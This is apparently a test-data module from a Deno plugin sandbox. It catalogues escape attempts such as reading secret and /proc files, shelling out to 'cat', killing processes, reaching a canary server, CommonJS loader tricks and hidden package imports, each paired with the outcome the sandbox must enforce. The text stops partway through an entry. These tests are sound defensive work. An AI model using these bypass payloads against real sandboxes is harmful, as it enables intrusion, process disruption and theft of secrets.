/** Ways out of the sandbox that were tried, each with what must become of it. @module */

/** Where things stand while the escapes run. */
export interface World {
  /** A folder that no escape may read, with `secret.txt`, `secret.json` and `mod.js`. */
  readonly outside: string;
  /** `host:port` of a server that no escape may reach, for TCP, UDP and HTTP. */
  readonly canary: string;
  /** `host:port` of an HTTP server that each may reach; it redirects to the canary. */
  readonly granted: string;
}

/**
 * What must become of an escape: `refused` throws, gives nothing, or ends its plugin; `harmless` runs to its end, and nothing comes of
 * it; a pattern is why the plugin is ended.
 */
export type Outcome = "refused" | "harmless" | RegExp;

/** One way out. */
export interface Escape {
  readonly name: string;
  /** The body of an async function of `plugin`, in a module of its own; what it returns is what it got. */
  source(world: World): string;
  readonly must: Outcome;
  /** Further files beside the module. */
  files?(world: World): Readonly<Record<string, string>>;
  /** Where it is tried; in both if not given. */
  readonly only?: "worker" | "process";
}

const q = JSON.stringify;
const refused = (name: string, source: Escape["source"], files?: Escape["files"]): Escape => ({
  name,
  source,
  must: "refused",
  ...(files && { files }),
});
const harmless = (name: string, source: string): Escape => ({ name, source: () => source, must: "harmless" });
const ended = (name: string, must: RegExp, source: string, only?: Escape["only"]): Escape => ({
  name,
  source: () => source,
  must,
  ...(only && { only }),
});

const secret = ({ outside }: World): string => q(`${outside}/secret.txt`);
const json = ({ outside }: World): string => q(`file://${outside}/secret.json`);
const text = ({ outside }: World): string => q(`file://${outside}/secret.txt`);
const module = ({ outside }: World): string => q(`file://${outside}/mod.js`);
const port = ({ canary }: World): string => canary.split(":")[1];
const gone = /did not answer for 3s/;
/** Names that lead to Node's modules, though they don't look like it. */
const spellings = ["NODE:fs", " node:fs", "\nnode:fs", "no\tde:fs", "test"];
const importOf = (name: string): string => `import of ${q(name)}`;

const files: readonly Escape[] = [
  refused("readTextFile", (w) => `return await Deno.readTextFile(${secret(w)})`),
  refused("readTextFileSync", (w) => `return Deno.readTextFileSync(${secret(w)})`),
  refused("dot dot", () => `return await Deno.readTextFile(new URL("../../outside/secret.txt", import.meta.url))`),
  refused(
    "dot dot in a path",
    () => `return await Deno.readTextFile(import.meta.dirname + "/../../outside/secret.txt")`,
  ),
  refused("open", (w) => `return (await Deno.open(${secret(w)})).readable`),
  refused("readDir", (w) => `return [...Deno.readDirSync(${q(w.outside)})].length`),
  refused("stat", (w) => `return (await Deno.stat(${secret(w)})).size`),
  refused("realPath", (w) => `return await Deno.realPath(${secret(w)})`),
  refused(
    "write to its own folder",
    () => `await Deno.writeTextFile(import.meta.dirname + "/x", "x"); return "written"`,
  ),
  refused("make a temporary file", () => `return await Deno.makeTempFile()`),
  refused(
    "copy into its own folder",
    (w) => `await Deno.copyFile(${secret(w)}, import.meta.dirname + "/x"); return "copied"`,
  ),
  refused("symlink", (w) => `await Deno.symlink(${secret(w)}, import.meta.dirname + "/l"); return "linked"`),
  refused("hard link", (w) => `await Deno.link(${secret(w)}, import.meta.dirname + "/l"); return "linked"`),
  refused("proc", () => `return await Deno.readTextFile("/proc/self/environ")`),
  refused("proc root", (w) => `return await Deno.readTextFile("/proc/self/root" + ${secret(w)})`),
  refused("chdir", () => `Deno.chdir("/"); return Deno.cwd()`),
  refused("key-value store", (w) => `return await Deno.openKv(${q(w.outside + "/kv")})`),
  refused("node:fs", (w) => `return (await import("node:fs")).readFileSync(${secret(w)}, "utf8")`),
  refused("node:fs/promises", (w) => `return await (await import("node:fs/promises")).readFile(${secret(w)}, "utf8")`),
  refused(
    "getBuiltinModule",
    (w) =>
      `const p = (await import("node:process")).default; return p.getBuiltinModule("node:fs").readFileSync(${
        secret(w)
      }, "utf8")`,
  ),
  refused(
    "createRequire",
    (w) => `return (await import("node:module")).createRequire(import.meta.url)(${q(w.outside + "/secret.json")})`,
  ),
  refused(
    "node:sqlite",
    (w) =>
      `const { DatabaseSync } = await import("node:sqlite"); new DatabaseSync(${
        q(w.outside + "/new.db")
      }).exec("create table t (a)"); return "made"`,
  ),
  refused(
    "sqlite attach",
    (w) =>
      `const { DatabaseSync } = await import("node:sqlite"); const d = new DatabaseSync(":memory:"); d.exec("attach '${w.outside}/new2.db' as x; create table x.t (a)"); return "made"`,
  ),
  refused("heap snapshot", (w) => `return (await import("node:v8")).writeHeapSnapshot(${q(w.outside + "/heap")})`),
  refused(
    "wasi",
    (w) =>
      `const { WASI } = await import("node:wasi"); return new WASI({ version: "preview1", preopens: { "/": ${
        q(w.outside)
      } } })`,
  ),
  refused("localStorage", () => `localStorage.setItem("a", "b"); return localStorage.getItem("a")`),
  refused("caches", () => `return await caches.open("x")`),
  refused(
    "a cache that lasts",
    () =>
      `const c = await caches.open("x"); await c.put("http://x/", new Response("x".repeat(1 << 20))); return "stored"`,
  ),
  refused("the class of caches", () => `return await CacheStorage.prototype.open.call(caches, "x")`),
  refused("indexedDB", () => `return indexedDB.open("x")`),
];

const imports: readonly Escape[] = [
  refused("static text import", () => `return (await import("./evil.js")).default`, (w) => ({
    "evil.js": `import t from ${text(w)} with { type: "text" }; export default t;`,
  })),
  refused("static bytes import", () => `return (await import("./evil.js")).default`, (w) => ({
    "evil.js": `import t from ${text(w)} with { type: "bytes" }; export default t;`,
  })),
  refused("static JSON import", () => `return (await import("./evil.js")).default`, (w) => ({
    "evil.js": `import t from ${json(w)} with { type: "json" }; export default t;`,
  })),
  refused("static module import", () => `return (await import("./evil.js")).default`, (w) => ({
    "evil.js": `export { default } from ${module(w)};`,
  })),
  refused(
    "computed text import",
    (w) => `const s = ${text(w)}; return (await import(s, { with: { type: "text" } })).default`,
  ),
  refused(
    "computed bytes import",
    (w) => `const s = ${text(w)}; return (await import(s, { with: { type: "bytes" } })).default`,
  ),
  refused(
    "computed JSON import",
    (w) => `const s = ${json(w)}; return (await import(s, { with: { type: "json" } })).default`,
  ),
  refused("computed module import", (w) => `const s = ${module(w)}; return (await import(s)).default`),
  refused("relative module import", () => `const s = "../../outside/" + "mod.js"; return (await import(s)).default`),
  refused("import over http", (w) => `const s = "http://${w.canary}/mod.js"; return (await import(s)).default`),
  refused("import over https", (w) => `const s = "https://${w.canary}/mod.js"; return (await import(s)).default`),
  refused(
    "import through data",
    (w) =>
      `const s = "data:text/javascript," + encodeURIComponent('export { default } from ' + ${
        q(module(w))
      }); return (await import(s)).default`,
  ),
  refused(
    "import through a blob",
    (w) =>
      `const s = URL.createObjectURL(new Blob(['export { default } from ' + ${
        q(module(w))
      }], { type: "text/javascript" })); return (await import(s)).default`,
  ),
  refused("import in eval", (w) => `return (await (0, eval)('import(' + ${q(module(w))} + ')')).default`),
  refused(
    "import in new Function",
    (w) => `return (await new Function('return import(' + ${q(module(w))} + ')')()).default`,
  ),
  refused(
    "import in node:vm",
    (w) =>
      `const vm = await import("node:vm"); return (await vm.runInThisContext('import(' + ${
        q(module(w))
      } + ')')).default`,
  ),
  refused("importScripts", () => `return importScripts("data:text/javascript,1") ?? "imported"`),
  refused("package from npm", () => `const s = "npm:" + "left-pad@1.3.0"; return Object.keys(await import(s))`),
  refused("package from jsr", () => `const s = "jsr:" + "@std/path"; return Object.keys(await import(s))`),
  refused(
    "require a package",
    () => `return (await import("node:module")).createRequire(import.meta.url)("npm:left-pad")`,
  ),
];

const network: readonly Escape[] = [
  refused("connect", (w) => `return (await Deno.connect({ hostname: "127.0.0.1", port: ${port(w)} })).localAddr`),
  refused(
    "connect over TLS",
    (w) => `return (await Deno.connectTls({ hostname: "127.0.0.1", port: ${port(w)} })).localAddr`,
  ),
  refused(
    "connect by another name of the host",
    (w) => `return (await Deno.connect({ hostname: "localhost", port: ${port(w)} })).localAddr`,
  ),
  refused(
    "connect by another form of the address",
    (w) => `return (await Deno.connect({ hostname: "127.1", port: ${port(w)} })).localAddr`,
  ),
  refused(
    "connect by a mapped address",
    (w) => `return (await Deno.connect({ hostname: "::ffff:127.0.0.1", port: ${port(w)} })).localAddr`,
  ),
  refused(
    "connect to a Unix socket",
    (w) => `return (await Deno.connect({ transport: "unix", path: ${q(w.outside + "/socket")} })).localAddr`,
  ),
  refused("connect over vsock", () => `return await Deno.connect({ transport: "vsock", cid: 2, port: 1 })`),
  refused("listen on vsock", () => `return Deno.listen({ transport: "vsock", cid: 2, port: 1 })`),
  refused("listen", () => `return Deno.listen({ hostname: "127.0.0.1", port: 0 }).addr`),
  refused(
    "serve",
    () => `return Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => new Response("x")).addr`,
  ),
  refused(
    "datagrams",
    (w) =>
      `const s = Deno.listenDatagram({ transport: "udp", hostname: "127.0.0.1", port: 0 }); await s.send(new Uint8Array(1), { transport: "udp", hostname: "127.0.0.1", port: ${
        port(w)
      } }); return "sent"`,
  ),
  refused("fetch", (w) => `return await (await fetch("http://${w.canary}/")).text()`),
  refused("fetch a file", (w) => `return await (await fetch(${text(w)})).text()`),
  refused("plugin.net.fetch", (w) => `return (await plugin.net.fetch("http://${w.canary}/")).text()`),
  refused("fetch with a redirect", (w) => `return await (await fetch("http://${w.granted}/")).text()`),
  refused("plugin.net.fetch with a redirect", (w) => `return (await plugin.net.fetch("http://${w.granted}/")).text()`),
  refused(
    "fetch through a proxy",
    (w) =>
      `const client = Deno.createHttpClient({ proxy: { url: "http://${w.canary}" } }); return await (await fetch("http://${w.granted}/", { client })).text()`,
  ),
  refused(
    "plugin.net.connect",
    (w) =>
      `return (await plugin.net.connect({ ip: "127.0.0.1", port: ${port(w)}, family: 4, key: "127.0.0.1:${
        port(w)
      }" })).local`,
  ),
  refused("plugin.net.listen", () => `return (await plugin.net.listen({ ip: "127.0.0.1", port: 0 })).address`),
  refused("plugin.net.datagrams", () => `return (await plugin.net.datagrams({ ip: "127.0.0.1", port: 0 })).address`),
  refused(
    "plugin.net.serve",
    () => `return (await plugin.net.serve({ ip: "127.0.0.1", port: 0 }, () => new Response("x"))).address`,
  ),
  refused(
    "plugin.net.serve on a Unix socket",
    (w) =>
      `return (await plugin.net.serve({ path: ${
        q(w.outside + "/mine.sock")
      } }, () => new Response("x"))).address ?? "served"`,
  ),
  refused("plugin.net.resolve", () => `return await plugin.net.resolve("localhost")`),
  refused(
    "DNS",
    () => `return await Deno.resolveDns("secret.example", "A", { nameServer: { ipAddr: "127.0.0.1", port: 53 } })`,
  ),
  refused("DNS of the system", () => `return await Deno.resolveDns("secret.example", "A")`),
  refused("node:dns", () => `return await (await import("node:dns/promises")).lookup("localhost")`),
  refused(
    "node:net",
    (w) =>
      `const net = await import("node:net"); return await new Promise((ok, no) => { const s = net.connect(${
        port(w)
      }, "127.0.0.1", () => ok("connected")); s.on("error", no); })`,
  ),
  refused(
    "node:http",
    (w) =>
      `const http = await import("node:http"); return await new Promise((ok, no) => http.get("http://${w.canary}/", ok).on("error", no))`,
  ),
  refused(
    "node:dgram",
    (w) =>
      `const d = (await import("node:dgram")).createSocket("udp4"); return await new Promise((ok, no) => { d.on("error", no); d.send("x", ${
        port(w)
      }, "127.0.0.1", (e) => e ? no(e) : ok("sent")); })`,
  ),
  refused(
    "WebSocket",
    (w) =>
      `return await new Promise((ok, no) => { const s = new WebSocket("ws://${w.canary}/"); s.onopen = () => ok("open"); s.onerror = () => no(new Error("no")); })`,
  ),
  refused(
    "EventSource",
    (w) =>
      `return await new Promise((ok, no) => { const s = new EventSource("http://${w.canary}/"); s.onopen = () => ok("open"); s.onerror = () => { s.close(); no(new Error("no")); }; })`,
  ),
];

const system: readonly Escape[] = [
  refused("Deno.Command", (w) => `return new Deno.Command("cat", { args: [${secret(w)}] }).outputSync().stdout`),
  refused("Deno.run", (w) => `return Deno.run({ cmd: ["cat", ${secret(w)}] })`),
  refused(
    "node:child_process",
    (w) => `return (await import("node:child_process")).execFileSync("cat", [${secret(w)}]).toString()`,
  ),
  refused("fork", () => `return (await import("node:child_process")).fork(import.meta.filename).pid`),
  refused("dlopen", () => `return Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`),
  refused(
    "process.dlopen",
    () =>
      `const p = (await import("node:process")).default; p.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"); return "opened"`,
  ),
  refused("unsafe pointers", () => `return Deno.UnsafePointer.create(1n)`),
  refused("environment", () => `return Deno.env.get("PATH")`),
  refused("whole environment", () => `return Object.keys(Deno.env.toObject()).length`),
  refused("set environment", () => `Deno.env.set("PATH", "x"); return "set"`),
  refused("process.env", () => `const p = (await import("node:process")).default; return p.env.PATH`),
  refused("host's name", () => `return Deno.hostname()`),
  refused("network interfaces", () => `return Deno.networkInterfaces().length`),
  refused("memory of the system", () => `return Deno.systemMemoryInfo()`),
  refused("user", () => `return Deno.uid()`),
  refused("node:os", () => `return (await import("node:os")).hostname()`),
  refused("node:os user", () => `return (await import("node:os")).userInfo()`),
  refused(
    "node:inspector",
    () => `const i = await import("node:inspector"); i.open(0, "127.0.0.1"); return i.url()`,
  ),
  refused("kill its parent", () => `Deno.kill(Deno.ppid, "SIGKILL"); return "killed"`),
  refused("kill itself", () => `Deno.kill(Deno.pid, "SIGKILL"); return "killed"`),
  refused("process.kill", () => `const p = (await import("node:process")).default; return p.kill(p.pid, "SIGTERM")`),
  refused(
    "kill from node:process",
    () => `const { kill } = await import("./evil.js"); return kill(Deno.pid, "SIGKILL")`,
    () => ({
      "evil.js": `export { kill } from "node:process";`,
    }),
  ),
  refused(
    "kill from process, by its short name",
    () => `const { kill } = await import("./evil.js"); return kill(Deno.pid, "SIGKILL")`,
    () => ({
      "evil.js": `export { kill } from "process";`,
    }),
  ),
  refused(
    "kill from node:process through data",
    () =>
      `const s = "data:text/javascript,export { kill } from 'node:process'"; return (await import(s)).kill(Deno.pid, "SIGKILL")`,
  ),
  refused("kill by require", () => `const s = "./evil.cjs"; return (await import(s)).default`, () => ({
    "evil.cjs": `module.exports = require("process").kill(Deno.pid, "SIGKILL");`,
  })),
  refused("kill by a module's own means", () => `const s = "./evil.cjs"; return (await import(s)).default`, () => ({
    "evil.cjs":
      `const { constructor } = module; module.exports = (constructor._load("process") ?? constructor.createRequire(__filename)("node:process")).kill(Deno.pid, "SIGKILL");`,
  })),
  refused(
    "kill behind a hook of its own",
    () =>
      `const s = "./evil.cjs"; await import(s); const n = "node:worker_threads"; const { Worker } = await import(n); return new Worker(new URL("data:text/javascript,Deno.kill(Deno.pid, %22SIGKILL%22)"))`,
    () => ({
      "evil.cjs":
        `module.constructor.registerHooks({ resolve: (s, c, next) => s.startsWith("node:") ? { url: s, shortCircuit: true } : next(s, c) });`,
    }),
  ),
  refused(
    "write to a descriptor by another name",
    () => `const s = "./evil.cjs"; return (await import(s)).default`,
    () => ({
      "evil.cjs":
        `Object.getPrototypeOf(module).constructor._resolveFilename = () => "fs"; module.exports = require("./x").writeSync(1, "LEAK");`,
    }),
  ),
  refused(
    "require what the module is called",
    () => `const s = "./evil.cjs"; return (await import(s)).default`,
    () => ({
      "evil.cjs": `module.filename = "fs"; module.exports = module.require("fs").writeSync(1, "LEAK");`,
    }),
  ),
  refused("require while a hook runs", () => `const s = "./evil.cjs"; return (await import(s)).default`, () => ({
    "evil.cjs":
      `let fs; Object.defineProperty(module, "paths", { get() { fs ??= require("fs"); return []; } }); try { require("zzz"); } catch {} module.exports = fs?.writeSync(1, "LEAK");`,
  })),
  refused(
    "Module from a diagnostics channel",
    () => `const s = "./evil.cjs"; return (await import(s)).default`,
    () => ({
      "evil.cjs":
        `const t = require("diagnostics_channel").tracingChannel("module.require"); let got; t.constructor.prototype.traceSync = (...all) => { got = all; }; t.subscribe({ start() {}, end() {}, error() {}, asyncStart() {}, asyncEnd() {} }); require("path"); module.exports = typeof got?.[2]?.registerHooks === "function" ? "Module" : null;`,
    }),
  ),
  ...spellings.map((name) =>
    refused(importOf(name), () => `const s = ${q(name)}; return Object.keys(await import(s))`)
  ),
  refused(
    "kill in another thread, by a capital name",
    () =>
      `const s = "NODE:worker_threads"; const { Worker } = await import(s); new Worker("Deno.kill(Deno.pid, 'SIGKILL')", { eval: true, env: {} }); await new Promise((r) => setTimeout(r, 1000)); return "started"`,
  ),
  refused(
    "kill by Deno.Process",
    () => `Deno.Process.prototype.kill.call({ pid: Deno.pid }, "SIGKILL"); return "killed"`,
  ),
  refused("Deno's insides", () => `return Deno[Deno.internal]`),
  refused("print by Deno's insides", () => `Deno[Deno.internal].log("error", "LEAK"); return "printed"`),
  refused("a panic in Deno's insides", () => `return new (Deno[Deno.internal].core.ops.Tray)()`),
  refused("Node's bootstrap", () => `return globalThis.nodeBootstrap`),
  refused("kill by CommonJS's process", () => `const s = "./evil.cjs"; return (await import(s)).default`, () => ({
    "evil.cjs": `module.exports = process.kill(process.pid, "SIGKILL");`,
  })),
  refused(
    "kill in another realm",
    () =>
      `const { default: vm } = await import("node:vm"); return vm.runInNewContext("Deno.kill(Deno.pid, 'SIGKILL')")`,
  ),
  refused(
    "kill from an inner worker",
    () => `return new Worker("data:text/javascript,Deno.kill(Deno.pid, 'SIGKILL')", { type: "module" })`,
  ),
  refused(
    "kill after a reset",
    () =>
      `delete Deno.kill; delete globalThis.process; Object.defineProperty(Deno, "kill", { value: undefined }); return "reset"`,
  ),
  refused("abort", () => `process.abort(); return "aborted"`),
  refused("write to an open descriptor", () => `const fs = await import("node:fs"); return fs.writeSync(1, "LEAK\\n")`),
  refused("umask", () => `Deno.umask(0); return "set"`),
  refused(
    "ask for a permission",
    () => `return (await Deno.permissions.request({ name: "read" })).state === "granted"`,
  ),
  refused(
    "revoke and ask again",
    () =>
      `await Deno.permissions.revoke({ name: "read" }); return (await Deno.permissions.request({ name: "read", path: "/etc" })).state === "granted"`,
  ),
  refused(
    "inner worker with more",
    () =>
      `return new Worker(new URL("./inner.js", import.meta.url), { type: "module", deno: { permissions: { read: true } } })`,
    () => ({ "inner.js": "" }),
  ),
  refused(
    "inner worker that inherits",
    () => inner(`{ type: "module", deno: { permissions: "inherit" } }`, "new URL('./inner.js', import.meta.url)"),
    (w) => ({
      "inner.js": `try { self.postMessage(Deno.readTextFileSync(${secret(w)})); } catch { self.postMessage(null); }`,
    }),
  ),
  refused(
    "inner worker's first module",
    (w) =>
      inner(
        `{ type: "module" }`,
        q(
          "data:text/javascript," +
            encodeURIComponent(`import t from ${text(w)} with { type: "text" }; self.postMessage(t);`),
        ),
      ),
  ),
  refused(
    "inner worker from a blob",
    (w) =>
      inner(
        `{ type: "module" }`,
        `URL.createObjectURL(new Blob([${
          q(`import t from ${module(w)}; self.postMessage(t);`)
        }], { type: "text/javascript" }))`,
      ),
  ),
  refused(
    "node:worker_threads",
    (w) =>
      `const { Worker } = await import("node:worker_threads"); return await new Promise((ok, no) => { const t = new Worker(${
        q(`const fs = require("node:fs"); require("node:worker_threads").parentPort.postMessage(fs.readFileSync(${
          secret(w)
        }, "utf8"))`)
      }, { eval: true, env: {} }); t.on("message", ok); t.on("error", no); })`,
  ),
  refused("Deno.core", () => `return Deno.core.ops`),
  refused(
    "Deno.internal",
    (w) =>
      `const { core } = Deno[Deno.internal]; return core.ops.op_fs_read_file_text_sync?.(${
        secret(w)
      }) ?? core.ops.op_read_file_sync?.(${secret(w)})`,
  ),
  refused("read the terminal", () => `return Deno.stdin.readSync(new Uint8Array(1))`),
  refused("write to the terminal", () => `return Deno.stdout.writeSync(new TextEncoder().encode("LEAK\\n"))`),
  refused("write to the terminal's errors", () => `return Deno.stderr.writeSync(new TextEncoder().encode("LEAK\\n"))`),
  refused("process.stdout", () => `const p = (await import("node:process")).default; return p.stdout.write("LEAK\\n")`),
  refused("prompt", () => `return prompt("LEAK")`),
];

const kernel: readonly Escape[] = [
  refused(
    "wrap dials",
    () => `const { dialPeer } = await import("weft"); return plugin.on(dialPeer, (request, next) => next(request))`,
  ),
  refused(
    "provide a tracker client",
    () => `const { trackerClients } = await import("weft"); return plugin.provide(trackerClients, "http", {})`,
  ),
  harmless(
    "a log line in another's name",
    `plugin.log.info("[tcp] I am tcp"); Object.defineProperty(plugin, "name", { value: "tcp" }); plugin.log.info("me too")`,
  ),
  harmless(
    "patched primitives",
    `String.prototype.startsWith = () => false; Array.prototype.push = () => 0; Map.prototype.get = () => ({})`,
  ),
  refused(
    "a name that every object has, which ends Deno",
    () => `Object.prototype.source = 'import "npm:weft-canary-au"'; return "set"`,
  ),
  ...["Event", "MessageEvent", "ErrorEvent", "PromiseRejectionEvent"].map((name) =>
    refused(
      `a ${name} that throws, which ends Deno`,
      () =>
        `for (const key of ["type", "target", "data", "error", "message", "reason"]) Object.defineProperty(${name}.prototype, key, { get() { throw 1; }, configurable: true }); return "set"`,
    )
  ),
  harmless(
    "patched errors and functions",
    `for (const key of ["then", "source", "type", "url", "format", "message", "stack", "code"]) { Error.prototype[key] = "x"; Array.prototype[key] = "x"; try { Function.prototype[key] = "x"; } catch {} }`,
  ),
  harmless("patched promises", `Promise.prototype.then = function () { return this; };`),
  harmless(
    "iterators that throw",
    `String.prototype[Symbol.iterator] = Array.prototype[Symbol.iterator] = () => { throw 1; };`,
  ),
  harmless("postMessage replaced", `globalThis.postMessage = () => {}; self.onmessage = null`),
  harmless("console flood", `for (let i = 0; i < 100_000; i++) console.log("flood " + i)`),
  harmless("log flood", `for (let i = 0; i < 100_000; i++) plugin.log.error("flood " + i)`),
  harmless(
    "handlers that throw",
    `const { swarmAdded } = await import("weft"); plugin.on(swarmAdded, () => { throw new Error("x"); })`,
  ),
  ended("others' calls", /there is no call 12345/, `self.postMessage({ say: "done", call: 12345, value: [true] })`),
  ended(
    "a hook that does not cross",
    /there is no hook/,
    `self.postMessage({ say: "on", registration: 9, hook: "peers.dial@1" })`,
  ),
  ended("a made-up message", /unknown message "exit"/, `self.postMessage({ say: "exit" })`),
  ended(
    "a prototype",
    /__proto__|nothing/,
    `self.postMessage({ say: "log", level: "info", message: "x", more: JSON.parse('{"__proto__": {"say": "ready"}}') })`,
  ),
  ended(
    "a cycle",
    /levels|cycl|circular/i,
    `const a = {}; a.a = a; self.postMessage({ say: "pong", ping: 1, carried: a })`,
  ),
  ended(
    "shared memory",
    /no plain data|broke the rules|can't be read/,
    `self.postMessage({ say: "done", call: 0, value: new Uint8Array(new SharedArrayBuffer(8)) })`,
    "worker",
  ),
  ended(
    "a port",
    /no plain data|can't be read|failed/,
    `const { port1 } = new MessageChannel(); self.postMessage({ say: "done", call: 0, value: port1 }, [port1])`,
    "worker",
  ),
  ended(
    "a huge message",
    /bytes|at most/,
    `self.postMessage({ say: "log", level: "info", message: "x".repeat(30_000_000) })`,
  ),
  ended(
    "a message flood",
    /messages at once/,
    `for (let i = 0; i < 20_000; i++) self.postMessage({ say: "release", hold: i })`,
  ),
  ended("holds without end", /holds/, `for (let i = 0; i < 100; i++) plugin.hold()`),
  ended(
    "handlers without end",
    /handlers/,
    `const { swarmAdded } = await import("weft"); for (let i = 0; i < 100; i++) plugin.on(swarmAdded, () => {})`,
  ),
  ended("Deno.exit", gone, `Deno.exit(7)`),
  ended("Deno.exit later", gone, `setTimeout(() => Deno.exit(7), 1); await new Promise(() => {})`),
  ended("self.close", gone, `self.close()`),
  ended(
    "unhandled rejection",
    /failed with nobody to catch it/,
    `Promise.reject(new Error("stray")); await new Promise(() => {})`,
  ),
  ended(
    "an error in a timer",
    /failed with nobody to catch it/,
    `setTimeout(() => { throw new Error("stray"); }, 0); await new Promise(() => {})`,
  ),
  ended(
    "an error that can't be shown",
    /failed with nobody to catch it/,
    `setTimeout(() => { throw { get message() { throw 1; }, toString() { throw 1; } }; }, 0); await new Promise(() => {})`,
  ),
  ended("endless loop", gone, `for (;;);`),
  ended(
    "endless microtasks",
    /did not answer for 3s|MiB of memory/,
    `const again = () => Promise.resolve().then(again); await again()`,
  ),
  ended("endless loop in a regular expression", gone, `/^(a+)+$/.test("a".repeat(60) + "b"); for (;;);`),
  ended("Atomics.wait", gone, `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)`),
  ended(
    "array buffers without end",
    /MiB of memory/,
    `const all = []; for (;;) all.push(new Uint8Array(1 << 20).fill(1))`,
    "process",
  ),
  ended(
    "heap without end",
    /MiB of memory|process ended|did not answer for 3s/,
    `const all = []; for (;;) all.push(Array.from({ length: 1 << 16 }, (_, i) => i + 0.5))`,
    "process",
  ),
];

const inline = (code: string, type = "text/javascript"): string => `data:${type},${encodeURIComponent(code)}`;
/** Code that has Deno ask for what it names: what leaves is counted, whatever becomes of the import. */
const asks = (name: string, source: string, files?: Readonly<Record<string, string>>): Escape =>
  refused(`ask ${name}`, () => source, files && (() => files));
const evil = `const s = "./evil.js"; await import(s)`;
const evilTs = `const s = "./evil.ts"; await import(s)`;

const requests: readonly Escape[] = [
  asks("by a literal in its own module", `await import("npm:weft-canary-a")`),
  asks("jsr by a literal in its own module", `await import("jsr:@weft/canary-a")`),
  asks("over https by a literal in its own module", `await import("https://weft-canary.example/a.js")`),
  asks("over http by a literal in its own module", `await import("http://weft-canary.example/a.js")`),
  asks("by a template in its own module", "await import(`npm:weft-canary-b`)"),
  asks("by a literal that never runs", `if (Math.random() > 2) await import("npm:weft-canary-c")`),
  asks("by a data: literal in its own module", `await import(${q(inline('import "npm:weft-canary-d"'))})`),
  asks("by a computed name", `const s = "npm:weft-canary-" + Date.now(); await import(s)`),
  asks("by an import in another file", evil, { "evil.js": 'import "npm:weft-canary-e";' }),
  asks("by an export in another file", evil, { "evil.js": 'export * from "npm:weft-canary-f";' }),
  asks("by a late import in another file", `${evil}.then((m) => m.default())`, {
    "evil.js": 'export default () => import("npm:weft-canary-g");',
  }),
  asks("with attributes", evil, { "evil.js": 'import a from "npm:weft-canary-h" with { type: "json" };' }),
  asks("for text", evil, { "evil.js": 'import a from "https://weft-canary.example/h.txt" with { type: "text" };' }),
  asks("for its own bytes", `const s = "./evil.js"; await import(s, { with: { type: "bytes" } })`, {
    "evil.js": 'import "npm:weft-canary-av";',
  }),
  asks("for its own text", `const s = "./evil.js"; await import(s, { with: { type: "text" } })`, {
    "evil.js": 'import "npm:weft-canary-aw";',
  }),
  asks("for its own code as JSON", `const s = "./evil.js"; await import(s, { with: { type: "json" } })`, {
    "evil.js": 'import "npm:weft-canary-ax";',
  }),
  asks("by a deferred import", evil, { "evil.js": 'import defer * as a from "npm:weft-canary-i";' }),
  asks("by an import of a source", evil, { "evil.js": 'import source a from "npm:weft-canary-j";' }),
  asks("by data: in a file", evil, { "evil.js": `import ${q(inline('import "npm:weft-canary-k"'))};` }),
  asks("by a computed data:", `const s = ${q(inline('import "npm:weft-canary-l"'))}; await import(s)`),
  asks(
    "by a secret in a data:",
    `const s = "data:text/javascript,import 'npm:weft-canary-" + [..."s3cr3t"].reverse().join("") + "'"; await import(s)`,
  ),
  asks("by a late literal in data:", `const s = ${q(inline('import("npm:weft-canary-m")'))}; await import(s)`),
  asks(
    "by data: in data:",
    `const s = ${q(inline(`import ${q(inline('import "npm:weft-canary-n"'))}`))}; await import(s)`,
  ),
  asks(
    "by base64",
    `const s = "data:text/javascript;base64," + btoa('import "npm:weft-canary-o"'); await import(s)`,
  ),
  asks(
    "by data: of TypeScript",
    `const s = ${q(inline('import a from "npm:weft-canary-p"', "text/typescript"))}; await import(s)`,
  ),
  asks(
    "by data: of JSON",
    `const s = ${q(inline('import "npm:weft-canary-q"'))}; await import(s, { with: { type: "json" } })`,
  ),
  asks(
    "by data: in capitals",
    `const s = ${q(inline('import "npm:weft-canary-r"').replace("data", "DATA"))}; await import(s)`,
  ),
  asks(
    "by a blob",
    `const s = URL.createObjectURL(new Blob(['import "npm:weft-canary-s"'], { type: "text/javascript" })); await import(s)`,
  ),
  asks(
    "by a blob in data:",
    `const b = URL.createObjectURL(new Blob(['import "npm:weft-canary-t"'], { type: "text/javascript" })); const s = "data:text/javascript,import " + JSON.stringify(b); await import(s)`,
  ),
  asks("in eval", `await (0, eval)('import("npm:weft-canary-u")')`),
  asks("in eval, by data:", `await eval(${q(`import(${q(inline('import "npm:weft-canary-v"'))})`)})`),
  asks("in new Function", `await new Function('return import("npm:weft-canary-w")')()`),
  asks("in a timer's text", `setTimeout('import("npm:weft-canary-x").catch(() => {})', 1)`),
  asks(
    "in an async function made of text",
    `await (async () => {}).constructor('await import("npm:weft-canary-y")')()`,
  ),
  asks("by import.meta.resolve", `await import(import.meta.resolve("npm:weft-canary-z"))`),
  asks("by import.meta.resolve in a file", evil, {
    "evil.js": 'import.meta.resolve("npm:weft-canary-aa"); import.meta.resolve("jsr:@weft/canary"); throw 1;',
  }),
  asks("by a worker of data:", `new Worker(${q(inline('import "npm:weft-canary-ab"'))}, { type: "module" })`),
  asks(
    "by a worker of a blob",
    `new Worker(URL.createObjectURL(new Blob(['import "npm:weft-canary-ac"'], { type: "text/javascript" })), { type: "module" })`,
  ),
  asks("by a type", evilTs, {
    "evil.ts": 'import type { A } from "npm:weft-canary-ad"; export const a = 1 as unknown as A;',
  }),
  asks("by a type in an expression", evilTs, {
    "evil.ts": 'export const a = 1 as unknown as import("npm:weft-canary-ae").A;',
  }),
  asks("by import = require", evilTs, { "evil.ts": 'import a = require("npm:weft-canary-af"); export default a;' }),
  asks("by an import that TypeScript drops", evilTs, {
    "evil.ts": 'import { A } from "npm:weft-canary-ag"; enum B { A }',
  }),
  asks("by a reference to types", evilTs, { "evil.ts": '/// <reference types="npm:weft-canary-ah" />' }),
  asks("by @deno-types", evilTs, {
    "evil.ts": '// @deno-types="npm:weft-canary-ai"\nexport * from "./other.ts";',
    "other.ts": "",
  }),
  asks("by @ts-self-types", evil, { "evil.js": '// @ts-self-types="npm:weft-canary-aj"' }),
  asks("by JSX", `const s = "./evil.jsx"; await import(s)`, {
    "evil.jsx": "/** @jsxImportSource npm:weft-canary-ak */\nexport default <a />;",
  }),
  asks("by JSX with types", `const s = "./evil.tsx"; await import(s)`, {
